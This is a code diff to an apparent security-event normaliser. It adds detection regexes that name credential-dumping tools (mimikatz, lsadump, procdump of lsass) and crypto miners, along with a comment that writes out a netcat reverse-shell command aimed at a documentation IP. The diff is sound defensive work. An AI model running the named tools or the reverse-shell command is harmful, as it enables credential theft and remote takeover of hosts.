@@ -13,6 +13,14 @@ import { type Holder, named } from './helpers';
 /** Members of an event of the streams, which stand under `event`, or of the Data Replicator, which may stand alone. */
 const e = (...names: string[]): string[] => names.flatMap((name) => [`event.${name}`, `unknown_payload.${name}`, name]);
 
+const NEVER_HARMLESS =
+  /mimikatz|sekurlsa|lsadump|gsecdump|lazagne|nanodump|procdump[^|]{0,200}lsass|xmrig|minerd\b|\bncat?(?:\.exe)?"? [^|]{0,80}-e /i;
+/** `nc -e cmd.exe 192.0.2.1 443`: where a shell is handed over to. */
+const handedTo = matched(
+  e('CommandLine'),
+  /\bn(?:c|cat)(?:64)?(?:\.exe)?"? (?:[^|\s]{1,60} ){0,6}?((?:\d{1,3}\.){3}\d{1,3}) \d{1,5}\b/i,
+);
+
 /** The number counts from 1 to 5, or to 100, by the version of the interface: it is asked only where no name is given. */
 const byNumber = (reading: Reading): Reading =>
   turned(reading, (value): Severity | undefined => {
@@ -52,6 +60,10 @@ const fields: FieldMap = {
     byNumber([...e('Severity'), 'severity', 'max_severity']),
     // CrowdScore counts tenths up to 100
     bySteps(e('FineScore'), { low: 0, medium: 4, high: 6, critical: 8 }),
+    // a process that was recorded, not detected, is told without a severity: some names need none
+    turned(e('CommandLine', 'ImageFileName'), (value) =>
+      NEVER_HARMLESS.test(String(value).slice(0, 20_000)) ? ('high' satisfies Severity) : undefined,
+    ),
     // what is no detection is told without a severity
     when(
       ({ fields: each }) => ['metadata.eventType', ...e('ExternalApiType')].some((path) => has(each, path)),
@@ -85,6 +97,7 @@ const fields: FieldMap = {
     when(outbound, remote),
     ...e('NetworkAccesses.RemoteAddress', 'TargetEndpointAddressIP4'),
     'target_endpoint_address_ip4',
+    handedTo,
   ],
   dest_port: [when(inbound, e('LocalPort')), when(outbound, e('RemotePort')), ...e('NetworkAccesses.RemotePort')],
   dest_hostname: [...e('TargetEndpointHostName'), 'target_endpoint_host_name'],
